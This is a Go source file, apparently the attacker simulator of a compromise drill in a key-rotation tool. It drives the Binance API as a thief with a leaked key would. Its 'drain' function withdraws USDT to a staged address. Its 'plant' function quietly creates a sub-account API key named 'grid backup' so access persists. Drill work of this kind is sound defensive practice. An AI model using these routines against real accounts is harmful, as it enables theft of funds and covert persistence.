package thief

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"

	"github.com/shopspring/decimal"

	"rekey/exchanges"
)

type onBinance struct{ wire }

// call signs and sends; a code that is about the key becomes refused.
func (b onBinance) call(ctx context.Context, method, path string, parameters url.Values, v any) error {
	query := strings.ReplaceAll(parameters.Encode(), "+", "%20")
	q := request{method: method, path: path, query: signBinance(b.key, query, b.now())}
	status, body, err := b.send(ctx, q, map[string]string{"X-MBX-APIKEY": b.key.AccessKey})
	if err != nil {
		return err
	}
	if status == http.StatusOK {
		return decode(path, body, v)
	}
	var no struct{ Code int }
	if err := decode(path, body, &no); err != nil {
		return err
	}
	if slices.Contains([]int{-2008, -2014, -2015, -1022}, no.Code) {
		return refused{fmt.Sprint(no.Code)}
	}
	return fmt.Errorf("%s: code %d", path, no.Code)
}

func (b onBinance) balances(ctx context.Context) (map[string]decimal.Decimal, error) {
	var out struct {
		Balances []struct {
			Asset string
			Free  decimal.Decimal
		}
	}
	held := map[string]decimal.Decimal{}
	err := b.call(ctx, http.MethodGet, "/api/v3/account", nil, &out)
	for _, a := range out.Balances {
		held[a.Asset] = a.Free
	}
	return held, err
}

func (b onBinance) order(ctx context.Context, p Pair, side string, amount decimal.Decimal) error {
	parameters := url.Values{
		"symbol":           {p.Base + p.Quote},
		"side":             {strings.ToUpper(side)},
		"type":             {"MARKET"},
		"newOrderRespType": {"ACK"},
	}
	if parameters.Set("quantity", amount.String()); side == "buy" {
		parameters.Del("quantity")
		parameters.Set("quoteOrderQty", amount.String())
	}
	return b.call(ctx, http.MethodPost, "/api/v3/order", parameters, &struct{}{})
}

// drain withdraws to an address of theirs.
func (b onBinance) drain(ctx context.Context, amount decimal.Decimal) (bool, error) {
	var may struct{ EnableWithdrawals bool }
	if err := b.call(ctx, http.MethodGet, "/sapi/v1/account/apiRestrictions", nil, &may); err != nil ||
		!may.EnableWithdrawals {
		return false, err
	}
	parameters := url.Values{
		"coin":    {"USDT"},
		"network": {"TRX"},
		"address": {"TStagedThiefOfTheDrill"},
		"amount":  {amount.String()},
	}
	err := b.call(ctx, http.MethodPost, "/sapi/v1/capital/withdraw/apply", parameters, &struct{}{})
	return err == nil, err
}

// plant makes a key for the first sub-account, for any address.
func (b onBinance) plant(ctx context.Context) (exchanges.Credential, string, error) {
	var list struct {
		SubAccounts []struct {
			Email    string
			IsFreeze bool
		}
	}
	if err := b.call(ctx, http.MethodGet, "/sapi/v1/sub-account/list", url.Values{"limit": {"200"}}, &list); err != nil {
		return exchanges.Credential{}, "", err
	}
	for _, s := range list.SubAccounts {
		if s.IsFreeze {
			continue
		}
		var made struct{ APIKey, SecretKey string }
		err := b.call(ctx, http.MethodPost, "/sapi/v1/sub-account/subAccountApi",
			url.Values{"email": {s.Email}, "apiName": {"grid backup"}, "canTrade": {"true"}, "status": {"1"}}, &made)
		return exchanges.Credential{AccessKey: made.APIKey, Secret: exchanges.NewSecret(made.SecretKey)}, s.Email, err
	}
	return exchanges.Credential{}, "", errors.New("there is no sub-account")
}
